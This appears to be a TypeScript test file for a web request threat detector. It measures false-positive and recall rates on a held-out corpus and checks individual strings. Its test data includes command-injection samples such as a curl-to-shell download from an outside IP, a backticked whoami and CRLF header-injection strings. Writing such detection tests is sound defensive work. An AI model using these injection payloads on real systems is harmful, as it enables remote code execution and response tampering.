/**
 * The held-out set (test/fixtures/heldout/, provenance in its README): benign text nobody wrote as a
 * test, the README and CHANGELOG prose, code blocks and descriptions of the packages in node_modules,
 * sent as query values and JSON bodies, and public attack lists the external corpus did not sample.
 * It measures whether the engine generalises beyond the corpora its rules were tuned on: no rule is
 * written from its lines, and the ceiling and floor only keep a change from doing worse than
 * `bench/detection-heldout.ts` measured. Tighten them when the engine gets better; never loosen them
 * to let a change through.
 */
import { describe, expect, it } from "@effect/vitest"
import { Effect } from "effect"
import { ThreatDetector } from "../../src/ThreatDetector.js"
import { loadHeldout } from "../fixtures/heldout/heldout.js"
import { rate, runCorpus, sumTallies } from "./externalCorpus.js"
import { expectVerdicts } from "./harness.js"

/** Held-out benign rows refused at the default level: measured 0.022 (54/2473). */
const HELDOUT_REFUSED_CEILING = 0.025
/**
 * Held-out attack rows caught at the default level: measured 0.960 (311/324). The misses of fuzzdb's
 * SQL and command lists showed classes the rules lacked (docs/detection.md); those classes were
 * written from their own variants, so this floor keeps them, not the lines.
 */
const HELDOUT_RECALL_FLOOR = 0.94

describe("held-out benign text", () => {
  it.effect("refuses at most the measured share of real documentation text at the default level", () =>
    Effect.gen(function*() {
      const detector = yield* Effect.orDie(ThreatDetector.make({ paranoia: 1 }))
      const r = yield* runCorpus(detector, loadHeldout().filter((row) => row.expect === "benign"))
      const total = sumTallies(r.refusedBySource)
      expect(total.total).toBeGreaterThan(2000)
      expect(rate(total), r.falsePositives.slice(0, 20).map((f) => `${f.row.source} #${f.row.id}: ${f.result.ruleIds.join(", ")}`).join("\n"))
        .toBeLessThanOrEqual(HELDOUT_REFUSED_CEILING)
    }), { timeout: 120_000 })

  it.effect("catches at least the measured share of the held-out attack lists at the default level", () =>
    Effect.gen(function*() {
      const detector = yield* Effect.orDie(ThreatDetector.make({ paranoia: 1 }))
      const r = yield* runCorpus(detector, loadHeldout().filter((row) => row.expect === "attack"))
      const total = sumTallies(r.recallBySource)
      expect(total.total).toBeGreaterThan(300)
      expect(rate(total), r.missed.slice(0, 20).map((row) => `${row.source}/${row.category} #${row.id}`).join("\n"))
        .toBeGreaterThanOrEqual(HELDOUT_RECALL_FLOOR)
    }), { timeout: 120_000 })

  it.effect("passes Markdown that names packages in backticks; a command there still counts", () =>
    expectVerdicts([
      "OpenTelemetry instrumentation for `node:dns` name resolution",
      "Build tool and bindings loader for `node-gyp` that supports prebuilds",
      "`base64-js` does basic base64 encoding in pure JS"
    ], ["`whoami`", "x;curl http://203.0.113.9/a|sh", "a|node -e 'x'"]))

  it.effect("passes prose whose line ends in a colon or starts with a URL; a header line still counts", () =>
    expectVerdicts([
      "If you create a single div, passing a string rather than an\nobject:",
      "Create a row with any number of columns, a column\ncan either be a string, or an object with the following\noptions:",
      "See the docs at\nhttps://example.com/guide"
    ], ["en\r\nSet-Cookie: sid=1", "x\nLocation: http://203.0.113.9/"]))

  it.effect("passes a Node README's CommonJS import in a JSON body", () =>
    Effect.gen(function*() {
      const detector = yield* Effect.orDie(ThreatDetector.make({ paranoia: 1 }))
      const text = JSON.stringify({ title: "Example", body: "const colors = require('@colors/colors');\nconsole.log('hello'.green);" })
      const result = yield* detector.detect({ path: "/api", headers: { "content-type": "application/json" }, body: { kind: "json", text } })
      expect(result.isThreat).toBe(false)
    }))
})
